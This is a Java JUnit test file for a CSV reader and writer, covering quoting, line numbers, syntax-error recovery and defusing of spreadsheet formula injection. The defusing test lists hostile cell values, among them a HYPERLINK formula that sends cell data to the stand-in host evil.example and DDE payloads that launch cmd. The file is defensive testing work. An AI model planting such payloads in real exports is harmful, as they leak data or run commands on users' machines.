package dev.rundbrief.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.StringReader;
import java.io.StringWriter;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class CsvTest {
  private static List<Csv.Row> readAll(String text) throws Exception {
    Csv.RowReader r = new Csv.RowReader(new StringReader(text));
    List<Csv.Row> rows = new ArrayList<>();
    for (Csv.Row row; (row = r.next()) != null; ) {
      rows.add(row);
    }
    return rows;
  }

  @Test
  void readsQuotedFieldsWithCommasDoubledQuotesAndLineBreaks() throws Exception {
    List<Csv.Row> rows = readAll("a,\"b,c\",\"say \"\"hi\"\"\"\r\n\"x\r\ny\",,z\nlast");
    assertThat(rows)
        .extracting(Csv.Row::fields)
        .containsExactly(
            List.of("a", "b,c", "say \"hi\""), List.of("x\r\ny", "", "z"), List.of("last"));
    assertThat(rows).extracting(Csv.Row::line).containsExactly(1, 2, 4);
  }

  @Test
  void reportsAnUnclosedQuoteWithTheLineWhereTheRecordStarts() throws Exception {
    Csv.RowReader r = new Csv.RowReader(new StringReader("ok\n\"open,\nmore\n"));
    assertThat(r.next().fields()).containsExactly("ok");
    assertThatThrownBy(r::next)
        .isInstanceOf(Csv.SyntaxError.class)
        .satisfies(e -> assertThat(((Csv.SyntaxError) e).line()).isEqualTo(2));
  }

  @Test
  void continuesWithTheNextLineAfterAStrayQuote() throws Exception {
    Csv.RowReader r = new Csv.RowReader(new StringReader("a\"b,c\nd,e\n"));
    assertThatThrownBy(r::next).isInstanceOf(Csv.SyntaxError.class);
    Csv.Row next = r.next();
    assertThat(next.fields()).containsExactly("d", "e");
    assertThat(next.line()).isEqualTo(2);
  }

  @Test
  void writesWhatItReadsBack() throws Exception {
    List<String> fields =
        List.of("plain", "with,comma", "with \"quote\"", "two\r\nlines", " pad ", "");
    StringWriter out = new StringWriter();
    Csv.writeRow(out, fields);
    assertThat(out.toString())
        .endsWith("\r\n")
        .startsWith("plain,\"with,comma\",\"with \"\"quote\"\"\"");
    assertThat(readAll(out.toString()).get(0).fields()).isEqualTo(fields);
  }

  @Test
  void defusesEveryCellThatASpreadsheetWouldReadAsAFormulaAndRestoresItExactly() {
    List<String> attacks =
        List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "'=1+1",
            "''-2");
    for (String attack : attacks) {
      String cell = Csv.defuse(attack);
      assertThat(cell).as(attack).isEqualTo("'" + attack);
      assertThat(Csv.restore(cell)).as(attack).isEqualTo(attack);
    }
    for (String plain : List.of("Anna", "'Anna'", "'", "''", "", "a=b", "O'Neil", "2+3")) {
      assertThat(Csv.defuse(plain)).as(plain).isEqualTo(plain);
      assertThat(Csv.restore(plain)).as(plain).isEqualTo(plain);
    }
  }

  @Test
  void aDefusedRowNeverStartsACellWithAFormulaCharacter() throws Exception {
    StringWriter out = new StringWriter();
    Csv.writeDefusedRow(out, List.of("=1+1", "\t=2+2", "ok"));
    assertThat(out.toString()).isEqualTo("'=1+1,'\t=2+2,ok\r\n");
    assertThat(readAll(out.toString()).get(0).fields()).containsExactly("'=1+1", "'\t=2+2", "ok");
  }
}
